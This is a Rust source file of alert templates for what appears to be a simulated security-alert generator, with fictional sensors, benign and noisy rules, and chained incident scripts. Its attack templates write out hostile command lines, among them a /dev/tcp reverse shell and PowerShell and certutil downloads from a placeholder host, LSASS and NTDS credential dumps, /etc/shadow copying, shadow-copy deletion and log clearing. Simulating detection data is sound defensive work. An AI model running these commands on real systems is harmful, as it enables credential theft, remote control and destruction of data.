//! The alert templates: which detector of which sensor fires, on what kind of machine, and what it
//! says of the process. In commands, `{n}` is a number of the happening's own, `{user}` its account,
//! `{peer}` another machine of the tenant and `{domain}` a name outside.

/// The three sensors; each watches one kind of machine and has its own manners.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Machine {
    /// Watched by Sentrel Endpoint, which uses the whole range of severities.
    Workstation,
    /// Watched by Kestrane Server Shield, which shouts.
    Server,
    /// Watched by Lodequill Sensor, which says little.
    Linux,
}

impl Machine {
    /// The sensor's product name.
    pub(crate) const fn product(self) -> &'static str {
        match self {
            Self::Workstation => "Sentrel Endpoint",
            Self::Server => "Kestrane Server Shield",
            Self::Linux => "Lodequill Sensor",
        }
    }

    /// The sensor's vendor.
    pub(crate) const fn vendor(self) -> &'static str {
        match self {
            Self::Workstation => "Sentrel",
            Self::Server => "Kestrane",
            Self::Linux => "Lodequill",
        }
    }

    /// Its version.
    pub(crate) const fn version(self) -> &'static str {
        match self {
            Self::Workstation => "7.4.1",
            Self::Server => "2026.3",
            Self::Linux => "0.31.0",
        }
    }
}

/// What a template is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Role {
    /// A step of an incident.
    Attack,
    /// Fires again and again, and nobody has switched it off.
    Noisy,
    /// Normal work that a fact of the tenant covers.
    Benign(Cover),
    /// The one rule that somebody got wrong everywhere.
    Misconfigured,
    /// Noisy too, at one tenant only.
    Alone,
}

/// What a known-good fact compares besides the rule and the host.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Cover {
    /// The command line, up to `{n}`.
    Command,
    /// The parent process.
    Parent,
    /// The address the traffic came from.
    Source,
}

/// Whose account it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Who {
    /// An employee's; in an incident, always the same one's.
    Person,
    /// The machine's own.
    System,
    /// A service's.
    Service,
    /// An administrator's.
    Admin,
}

/// What traffic the alert names.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Wire {
    /// None.
    Quiet,
    /// To a machine outside, by address, name and URL.
    Out,
    /// To another machine of the tenant.
    Across,
    /// From the tenant's own scanner.
    Scanner,
    /// From an address outside.
    In,
}

/// One detector and what it sees.
#[derive(Debug)]
pub(crate) struct Template {
    /// What it is for.
    pub(crate) role: Role,
    /// Where it fires.
    pub(crate) machine: Machine,
    /// The detector's id.
    pub(crate) rule: &'static str,
    /// Its title.
    pub(crate) title: &'static str,
    /// Its category.
    pub(crate) category: &'static str,
    /// Its severity, by OCSF's number.
    pub(crate) severity: u8,
    /// Its ATT&CK technique.
    pub(crate) technique: &'static str,
    /// The parent process's path.
    pub(crate) parent: &'static str,
    /// The process's path.
    pub(crate) process: &'static str,
    /// Whose account it runs under.
    pub(crate) who: Who,
    /// The command line.
    pub(crate) command: &'static str,
    /// What an attacker has the same rule see; empty where there is none.
    pub(crate) twist: &'static str,
    /// The traffic.
    pub(crate) wire: Wire,
}

impl Template {
    /// The command line up to the happening's own number.
    pub(crate) fn prefix(&self) -> &'static str {
        self.command
            .split_once("{n}")
            .map_or(self.command, |(before, _)| before)
    }
}

macro_rules! templates {
    ($($name:ident $role:expr, $machine:ident $severity:literal $rule:literal $title:literal
        $category:literal $technique:literal, $parent:literal > $process:literal as $who:ident
        runs $command:literal or $twist:literal, $wire:ident;)*) => {
        $(pub(crate) static $name: Template = Template {
            role: $role,
            machine: Machine::$machine,
            rule: $rule,
            title: $title,
            category: $category,
            severity: $severity,
            technique: $technique,
            parent: $parent,
            process: $process,
            who: Who::$who,
            command: $command,
            twist: $twist,
            wire: Wire::$wire,
        };)*

        /// All of them.
        pub(crate) static ALL: &[&Template] = &[$(&$name,)*];
    };
}

const COMMAND: Role = Role::Benign(Cover::Command);
const PARENT: Role = Role::Benign(Cover::Parent);
const SOURCE: Role = Role::Benign(Cover::Source);

templates! {
    OFFICE_SCRIPT Role::Attack, Workstation 4 "SEN-1101" "Office application started a script host" "execution" "T1204.002",
        r"C:\Program Files\Office\WINWORD.EXE" > r"C:\Windows\System32\wscript.exe" as Person
        runs r"wscript.exe C:\Users\{user}\AppData\Local\Temp\order-{n}.js" or "", Quiet;
    ENCODED_SHELL Role::Attack, Workstation 4 "SEN-1107" "Encoded PowerShell with download" "execution" "T1059.001",
        r"C:\Windows\System32\wscript.exe" > r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" as Person
        runs r"powershell.exe -nop -w hidden -c iwr https://{domain}/s/{n} -OutFile $env:TEMP\u.dat" or "", Out;
    SCRIPT_APP Role::Attack, Workstation 3 "SEN-1123" "HTML application with remote content" "defense-evasion" "T1218.005",
        r"C:\Windows\explorer.exe" > r"C:\Windows\System32\mshta.exe" as Person
        runs r"mshta.exe https://{domain}/view/{n}.hta" or "", Out;
    LSASS_READ Role::Attack, Workstation 5 "SEN-1204" "Credential memory read by an unusual process" "credential-access" "T1003.001",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" > r"C:\Windows\System32\rundll32.exe" as Person
        runs r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 7{n} C:\Windows\Temp\d{n}.bin full" or "", Quiet;
    BROWSER_SECRETS Role::Attack, Workstation 4 "SEN-1211" "Browser password store copied" "credential-access" "T1555.003",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\System32\esentutl.exe" as Person
        runs r"esentutl.exe /y C:\Users\{user}\AppData\Local\Browser\LoginData /d C:\Windows\Temp\b{n}.tmp" or "", Quiet;
    RUN_KEY Role::Attack, Workstation 3 "SEN-1302" "Program added to start at logon" "persistence" "T1547.001",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\System32\reg.exe" as Person
        runs r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater{n} /d C:\Users\{user}\u.dat" or "", Quiet;
    REMOTE_EXEC Role::Attack, Workstation 4 "SEN-1407" "Remote execution tool towards a server" "lateral-movement" "T1021.002",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\Temp\rx.exe" as Person
        runs r"rx.exe \\{peer} -s cmd /c C:\Windows\Temp\r{n}.bat" or "", Across;
    BULK_UPLOAD Role::Attack, Workstation 4 "SEN-1511" "Large upload to a new destination" "exfiltration" "T1567.002",
        r"C:\Windows\System32\cmd.exe" > r"C:\Users\Public\rcl.exe" as Person
        runs r"rcl.exe copy C:\Users\{user}\Documents remote{n}: --transfers 16" or "", Out;
    SHADOW_DELETE Role::Attack, Workstation 5 "SEN-1603" "Shadow copies deleted" "impact" "T1490",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\System32\vssadmin.exe" as Person
        runs r"vssadmin.exe delete shadows /all /quiet & rem {n}" or "", Quiet;
    SERVICE_INSTALL Role::Attack, Server 5 "KSS-LAT-017" "REMOTE SERVICE CREATED AND STARTED" "lateral movement" "T1569.002",
        r"C:\Windows\System32\services.exe" > r"C:\Windows\RXSVC.exe" as Person
        runs r"C:\Windows\RXSVC.exe -k r{n}" or "", Quiet;
    NTDS_DUMP Role::Attack, Server 5 "KSS-CRD-003" "DIRECTORY DATABASE COPIED" "credential access" "T1003.003",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\System32\ntdsutil.exe" as Person
        runs r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\n{n}" q q"# or "", Quiet;
    NEW_ADMIN Role::Attack, Server 4 "KSS-PER-021" "NEW LOCAL ADMINISTRATOR" "persistence" "T1136.001",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\System32\net.exe" as Person
        runs r"net.exe localgroup administrators support{n} /add" or "", Quiet;
    WEB_SHELL Role::Attack, Server 5 "KSS-PER-008" "WEB SERVER STARTED A SHELL" "persistence" "T1505.003",
        r"C:\Windows\System32\inetsrv\w3wp.exe" > r"C:\Windows\System32\cmd.exe" as Person
        runs r"cmd.exe /c whoami /all > C:\inetpub\wwwroot\img\{n}.txt" or "", In;
    SCHEDULED Role::Attack, Server 4 "KSS-PER-014" "SCHEDULED TASK WITH HIDDEN WINDOW" "persistence" "T1053.005",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\System32\schtasks.exe" as Person
        runs r"schtasks.exe /create /tn Sync{n} /sc minute /mo 5 /tr C:\ProgramData\s.exe /ru SYSTEM" or "", Quiet;
    LOG_CLEAR Role::Attack, Server 4 "KSS-DEF-002" "SECURITY LOG CLEARED" "defense evasion" "T1070.001",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\System32\wevtutil.exe" as Person
        runs r"wevtutil.exe cl Security /bu:C:\Windows\Temp\{n}.evtx" or "", Quiet;
    ARCHIVE_STAGE Role::Attack, Server 4 "KSS-COL-005" "FILE SHARE PACKED WITH PASSWORD" "collection" "T1560.001",
        r"C:\Windows\System32\cmd.exe" > r"C:\Windows\Temp\7z.exe" as Person
        runs r"7z.exe a -p{n}x -mhe=on C:\Windows\Temp\a{n}.7z D:\Shares\Finance" or "", Quiet;
    KERBEROAST Role::Attack, Server 5 "KSS-CRD-011" "MANY SERVICE TICKETS FOR ONE ACCOUNT" "credential access" "T1558.003",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" > r"C:\Windows\Temp\tk.exe" as Person
        runs r"tk.exe roast /outfile:C:\Windows\Temp\h{n}.txt" or "", Across;
    REVERSE_SHELL Role::Attack, Linux 4 "lq.exec.revshell" "interactive shell over socket" "execution" "T1059.004",
        "/usr/sbin/apache2" > "/usr/bin/bash" as Person
        runs "bash -c exec 5<>/dev/tcp/{domain}/{n}; cat <&5 | sh >&5" or "", Out;
    CRON_PERSIST Role::Attack, Linux 3 "lq.persist.cron" "crontab changed by shell" "persistence" "T1053.003",
        "/usr/bin/bash" > "/usr/bin/crontab" as Person
        runs "crontab /tmp/.c{n}" or "", Quiet;
    MINER Role::Attack, Linux 3 "lq.impact.miner" "coin miner" "impact" "T1496",
        "/usr/bin/bash" > "/tmp/.x/kswapd1" as Person
        runs "/tmp/.x/kswapd1 -o {domain}:3333 -u w{n}" or "", Out;
    SSH_KEY Role::Attack, Linux 3 "lq.persist.sshkey" "authorized_keys written" "persistence" "T1098.004",
        "/usr/bin/bash" > "/usr/bin/tee" as Person
        runs "tee -a /home/{user}/.ssh/authorized_keys k{n}" or "", Quiet;
    SHADOW_READ Role::Attack, Linux 4 "lq.cred.shadow" "shadow file read" "credential-access" "T1003.008",
        "/usr/bin/bash" > "/usr/bin/cp" as Person
        runs "cp /etc/shadow /tmp/.s{n}" or "", Quiet;

    DEPLOY COMMAND, Workstation 3 "SEN-2101" "Installer started by a script" "software deployment" "T1072",
        r"C:\Program Files\Rollwerk\agent.exe" > r"C:\Windows\System32\msiexec.exe" as System
        runs r"msiexec.exe /qn /i \\deploy\packages$\approved\{n}.msi" or r"msiexec.exe /qn /i https://{domain}/viewer{n}.msi", Quiet;
    INVENTORY COMMAND, Workstation 2 "SEN-2108" "System survey by script" "inventory" "T1082",
        r"C:\Windows\System32\svchost.exe" > r"C:\Windows\System32\cscript.exe" as System
        runs r"cscript.exe //B C:\ProgramData\Inventar\collect.vbs /run:{n}" or r"cscript.exe //B C:\Users\Public\c{n}.vbs", Quiet;
    REMOTE_SUPPORT PARENT, Workstation 3 "SEN-2115" "Remote control session" "remote support" "T1219",
        r"C:\Program Files\Helpdesk Relay\relay.exe" > r"C:\Program Files\Helpdesk Relay\session.exe" as Person
        runs r"session.exe --ticket {n} --view" or "", Quiet;
    PATCH_AGENT COMMAND, Workstation 2 "SEN-2122" "Service binary replaced" "patching" "T1543.003",
        r"C:\Program Files\Patchlane\plsvc.exe" > r"C:\Windows\System32\dism.exe" as System
        runs r"dism.exe /online /add-package /packagepath:C:\Patchlane\cache\kb{n}.cab" or r"dism.exe /online /enable-feature /featurename:TelnetClient /source:C:\Users\Public\{n}", Quiet;
    LOGON_SCRIPT COMMAND, Workstation 2 "SEN-2130" "Script from a network share" "logon script" "T1037.001",
        r"C:\Windows\System32\userinit.exe" > r"C:\Windows\System32\cmd.exe" as Person
        runs r"cmd.exe /c \\netlogon\scripts\map-drives.cmd {n}" or r"cmd.exe /c \\{peer}\c$\Users\Public\m{n}.cmd", Quiet;
    BACKUP_SHELL COMMAND, Server 4 "KSS-EXE-030" "POWERSHELL TOUCHES MANY FILES" "backup" "T1059.001",
        r"C:\Program Files\Vaultline\vlagent.exe" > r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" as Service
        runs r"powershell.exe -NoProfile -File C:\Ops\Backup\nightly.ps1 -Job {n}" or r"powershell.exe -NoProfile -File C:\Ops\Backup\..\..\Windows\Temp\nightly.ps1 -Job {n}", Quiet;
    SQL_MAINTENANCE COMMAND, Server 4 "KSS-EXE-034" "DATABASE SERVER STARTED A SHELL" "database maintenance" "T1505.001",
        r"C:\Program Files\SqlServer\sqlservr.exe" > r"C:\Windows\System32\cmd.exe" as Service
        runs r"cmd.exe /c D:\Maintenance\reindex.cmd {n}" or r"cmd.exe /c certutil -urlcache -f https://{domain}/{n} C:\Windows\Temp\x.exe", Quiet;
    MONITOR_PROBE PARENT, Server 3 "KSS-DSC-019" "REMOTE SERVICE QUERY" "monitoring" "T1007",
        r"C:\Program Files\Pulsewatch\probe.exe" > r"C:\Windows\System32\sc.exe" as Service
        runs r"sc.exe \\{peer} query type= service state= all bufsize= {n}" or "", Across;
    DIRECTORY_REPORT COMMAND, Server 4 "KSS-DSC-007" "DIRECTORY ENUMERATED" "admin script" "T1087.002",
        r"C:\Windows\System32\taskeng.exe" > r"C:\Windows\System32\dsquery.exe" as Admin
        runs r"dsquery.exe user -inactive 12 -limit {n}" or r"dsquery.exe * -filter (adminCount=1) -limit {n} -attr *", Quiet;
    SNAPSHOT COMMAND, Server 5 "KSS-IMP-004" "SHADOW STORAGE CHANGED" "backup" "T1490",
        r"C:\Program Files\Vaultline\vlagent.exe" > r"C:\Windows\System32\vssadmin.exe" as Service
        runs r"vssadmin.exe resize shadowstorage /for=D: /on=D: /maxsize={n}GB" or r"vssadmin.exe delete shadows /for=D: /all /quiet & rem {n}", Quiet;
    SCANNER_LOGON SOURCE, Server 4 "KSS-CRD-025" "LOGON ATTEMPTS FROM ONE MACHINE" "vulnerability scanner" "T1110",
        r"C:\Windows\System32\services.exe" > r"C:\Windows\System32\lsass.exe" as Service
        runs r"lsass.exe audit {n}" or "", Scanner;
    BACKUP_COPY COMMAND, Linux 2 "lq.exfil.copy" "bulk copy to remote host" "backup" "T1048",
        "/usr/bin/vaultlined" > "/usr/bin/rsync" as Service
        runs "rsync -a --delete /srv/ backup@vault:/pool/srv/{n}" or "rsync -a /srv/ sync@{domain}:/in/{n}", Quiet;
    PLAYBOOK PARENT, Linux 3 "lq.exec.python-shell" "python started a shell" "admin script" "T1059.006",
        "/opt/orchestra/bin/runner" > "/usr/bin/python3" as Admin
        runs "python3 /opt/orchestra/tmp/play-{n}.py" or "", Quiet;
    LINUX_PROBE COMMAND, Linux 2 "lq.disc.netstat" "socket listing" "monitoring" "T1049",
        "/usr/sbin/pulsewatchd" > "/usr/bin/ss" as Service
        runs "ss -tnp -o state established --probe {n}" or "ss -tnp -a -K dport = :{n}", Quiet;
    PORT_SCAN SOURCE, Linux 3 "lq.disc.portscan" "port scan received" "vulnerability scanner" "T1046",
        "/usr/lib/systemd/systemd" > "/usr/sbin/lq-netd" as System
        runs "lq-netd --watch {n}" or "", Scanner;

    UNWANTED Role::Noisy, Workstation 2 "SEN-3101" "Potentially unwanted program" "unwanted software" "T1176",
        r"C:\Windows\explorer.exe" > r"C:\Users\Public\Couponly\couponly.exe" as Person
        runs r"couponly.exe --feed {n}" or r"couponly.exe --proxy {domain}:{n}", Quiet;
    OLD_DRIVER Role::Noisy, Workstation 3 "SEN-3109" "Vulnerable driver loaded" "vulnerable software" "T1068",
        r"C:\Windows\System32\services.exe" > r"C:\Program Files\FanTune\ftsvc.exe" as System
        runs r"ftsvc.exe --load ftio64.sys --inst {n}" or r"ftsvc.exe --load C:\Users\Public\k{n}.sys", Quiet;
    UPDATER Role::Noisy, Workstation 2 "SEN-3117" "Unsigned updater" "reputation" "T1195.002",
        r"C:\Windows\System32\taskeng.exe" > r"C:\Program Files\Papermill\pmupdate.exe" as Person
        runs r"pmupdate.exe /check /channel:{n}" or r"pmupdate.exe /install /from:https://{domain}/pm/{n}", Out;
    FINANCE_MACRO Role::Noisy, Workstation 3 "SEN-3125" "Macro starts a process" "execution" "T1137",
        r"C:\Program Files\Office\EXCEL.EXE" > r"C:\Windows\System32\cmd.exe" as Person
        runs r"cmd.exe /c copy \\files\finance\rates-{n}.csv %TEMP%" or r"cmd.exe /c start /min %TEMP%\rates-{n}.exe", Quiet;
    RARE_DOMAIN Role::Noisy, Workstation 1 "SEN-3133" "Rarely seen domain" "command-and-control" "T1071.001",
        r"C:\Windows\explorer.exe" > r"C:\Program Files\Browser\browser.exe" as Person
        runs r"browser.exe --type=renderer --client-id={n}" or r"browser.exe --headless --remote-debugging-port={n}", Out;
    STICK Role::Noisy, Workstation 2 "SEN-3140" "Program started from removable media" "initial access" "T1091",
        r"C:\Windows\explorer.exe" > r"E:\portable\launcher.exe" as Person
        runs r"launcher.exe /app:{n}" or r"launcher.exe /hidden /copy:C:\ProgramData\{n}", Quiet;
    FAILED_LOGON Role::Noisy, Server 4 "KSS-CRD-030" "REPEATED FAILED LOGONS" "credential access" "T1110.001",
        r"C:\Windows\System32\wininit.exe" > r"C:\Windows\System32\lsass.exe" as Service
        runs r"lsass.exe logon type 3 status {n}" or r"lsass.exe logon type 10 status {n}", Across;
    WMI_QUERY Role::Noisy, Server 4 "KSS-EXE-041" "WMI PROVIDER STARTED A PROCESS" "execution" "T1047",
        r"C:\Windows\System32\wbem\WmiPrvSE.exe" > r"C:\Windows\System32\wbem\WMIC.exe" as Service
        runs r"WMIC.exe /node:localhost process get name /every:{n}" or r"WMIC.exe /node:{peer} process call create C:\Windows\Temp\w{n}.exe", Quiet;
    WEAK_PROTOCOL Role::Noisy, Server 3 "KSS-NET-012" "OLD FILE SHARING PROTOCOL" "vulnerable software" "T1210",
        r"C:\Windows\System32\services.exe" > r"C:\Windows\System32\svchost.exe" as System
        runs r"svchost.exe -k smb1 -p -s {n}" or r"svchost.exe -k smb1 -p -s {n} -x", Across;
    SERVICE_CRASH Role::Noisy, Server 3 "KSS-IMP-018" "SECURITY SERVICE STOPPED" "impact" "T1489",
        r"C:\Windows\System32\services.exe" > r"C:\Program Files\Kestrane\kssup.exe" as System
        runs r"kssup.exe --restart --code {n}" or r"kssup.exe --disable --token {n}", Quiet;
    LEGACY_TASK Role::Noisy, Server 4 "KSS-PER-044" "TASK RUNS FROM A USER FOLDER" "persistence" "T1053.005",
        r"C:\Windows\System32\taskeng.exe" > r"C:\Users\Public\Reports\print.exe" as Admin
        runs r"print.exe /queue {n}" or r"print.exe /queue {n} /exec C:\Users\Public\Reports\up.dll", Quiet;
    SUDO_FAIL Role::Noisy, Linux 2 "lq.priv.sudo" "sudo failed" "privilege-escalation" "T1548.003",
        "/usr/bin/bash" > "/usr/bin/sudo" as Service
        runs "sudo -n systemctl reload unit{n}" or "sudo -u#-1 /bin/sh -c {n}", Quiet;
    SSH_GUESS Role::Noisy, Linux 2 "lq.cred.ssh" "ssh logons failed" "credential-access" "T1110.003",
        "/usr/lib/systemd/systemd" > "/usr/sbin/sshd" as System
        runs "sshd: unknown [preauth] {n}" or "sshd: {user} [accepted] {n}", In;
    ORPHAN_JOB Role::Noisy, Linux 2 "lq.exec.tmp" "program in tmp" "execution" "T1036.005",
        "/usr/sbin/cron" > "/tmp/rotate.sh" as Service
        runs "/tmp/rotate.sh --keep {n}" or "/tmp/rotate.sh --keep {n} --post /dev/shm/.p", Quiet;

    WRONG_RULE Role::Misconfigured, Workstation 4 "SEN-9001" "Management agent talks to its server" "command-and-control" "T1071",
        r"C:\Windows\System32\services.exe" > r"C:\Program Files\Sentrel\agentd.exe" as System
        runs r"agentd.exe --heartbeat" or "", Quiet;

    TILL Role::Alone, Workstation 3 "SEN-7001" "Till software writes to the system folder" "application" "T1574",
        r"C:\Windows\explorer.exe" > r"C:\Till\till.exe" as Service
        runs r"till.exe /lane {n}" or "", Quiet;
    IMAGING Role::Alone, Server 4 "KSS-APP-101" "IMAGING GATEWAY ACCEPTS UNKNOWN PEER" "application" "T1133",
        r"C:\Windows\System32\services.exe" > r"C:\Imaging\gateway.exe" as Service
        runs r"gateway.exe --aet STORE{n}" or "", Across;
    CONTROLLER Role::Alone, Server 4 "KSS-APP-107" "ENGINEERING STATION WRITES A CONTROLLER" "application" "T0843",
        r"C:\Plant\studio.exe" > r"C:\Plant\download.exe" as Person
        runs r"download.exe /cell {n}" or "", Across;
    CRANE Role::Alone, Linux 2 "lq.app.crane" "telemetry over plain text" "application" "T1040",
        "/usr/lib/systemd/systemd" > "/opt/crane/telemetry" as Service
        runs "telemetry --berth {n}" or "", Across;
}

/// How incidents go: each is a run of steps of one of these.
pub(crate) static SCRIPTS: &[&[&Template]] = &[
    &[
        &OFFICE_SCRIPT,
        &ENCODED_SHELL,
        &LSASS_READ,
        &REMOTE_EXEC,
        &SERVICE_INSTALL,
    ],
    &[&SCRIPT_APP, &ENCODED_SHELL, &BROWSER_SECRETS, &BULK_UPLOAD],
    &[&OFFICE_SCRIPT, &RUN_KEY, &BROWSER_SECRETS, &BULK_UPLOAD],
    &[&SCRIPT_APP, &LSASS_READ, &RUN_KEY, &SHADOW_DELETE],
    &[
        &WEB_SHELL,
        &NEW_ADMIN,
        &NTDS_DUMP,
        &ARCHIVE_STAGE,
        &LOG_CLEAR,
    ],
    &[&KERBEROAST, &SERVICE_INSTALL, &SCHEDULED, &NTDS_DUMP],
    &[&REMOTE_EXEC, &SERVICE_INSTALL, &SCHEDULED, &LOG_CLEAR],
    &[
        &REVERSE_SHELL,
        &SHADOW_READ,
        &SSH_KEY,
        &CRON_PERSIST,
        &MINER,
    ],
    &[&SSH_KEY, &REVERSE_SHELL, &CRON_PERSIST],
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn there_are_fifty_six_and_each_has_its_own_rule() {
        assert_eq!(ALL.len(), 56);
        let rules: BTreeSet<_> = ALL.iter().map(|t| t.rule).collect();
        assert_eq!(rules.len(), 56);
        let alone = ALL.iter().filter(|t| t.role == Role::Alone).count();
        assert_eq!(alone, 4);
    }

    #[test]
    fn what_an_attacker_does_is_in_no_fact() {
        for t in ALL {
            assert_eq!(t.command.contains("{n}"), t.role != Role::Misconfigured);
            match t.role {
                Role::Benign(Cover::Command) => {
                    assert!(!t.prefix().contains('{'), "{}", t.rule);
                    assert!(t.twist.contains("{n}"), "{}", t.rule);
                    assert!(!t.twist.starts_with(t.prefix()), "{}", t.rule);
                }
                Role::Noisy => assert!(t.twist.contains("{n}"), "{}", t.rule),
                Role::Attack | Role::Benign(_) | Role::Misconfigured | Role::Alone => {
                    assert_eq!(t.twist, "", "{}", t.rule);
                }
            }
        }
    }

    #[test]
    fn every_step_of_an_attack_is_in_a_script() {
        for t in ALL.iter().filter(|t| t.role == Role::Attack) {
            let steps = SCRIPTS.iter().flat_map(|s| s.iter());
            assert!(steps.into_iter().any(|s| s.rule == t.rule), "{}", t.rule);
        }
    }
}
